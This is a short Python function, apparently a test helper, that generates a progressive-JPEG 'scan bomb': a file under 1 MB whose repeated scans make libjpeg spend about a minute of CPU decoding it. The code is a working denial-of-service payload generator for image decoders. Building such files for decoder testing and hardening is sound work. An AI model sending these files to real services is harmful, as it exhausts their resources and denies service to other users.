"""A progressive-JPEG "scan bomb": a small file whose one scan is repeated thousands of times.

Each scan makes libjpeg walk every coefficient of the whole frame again, so a 7000x7000 frame
with 10,000 copies of a 75-byte scan costs about a minute of CPU while staying under 1 MB.
"""

import io


def scan_bomb(width: int = 7000, height: int = 7000, scans: int = 10_000) -> bytes:
    """A flat grey progressive JPEG of ``width`` x ``height`` whose last scan repeats until it has ``scans`` scans."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("L", (width, height), 128).save(buffer, "JPEG", progressive=True, quality=75)
    data = buffer.getvalue()
    starts = [i for i in range(len(data) - 1) if data[i] == 0xFF and data[i + 1] == 0xDA]  # flat image: no false hits
    end = data.rindex(b"\xff\xd9")
    header, body, last = data[: starts[0]], data[starts[0] : starts[-1]], data[starts[-1] : end]
    return header + body + last * (scans - len(starts) + 1) + b"\xff\xd9"
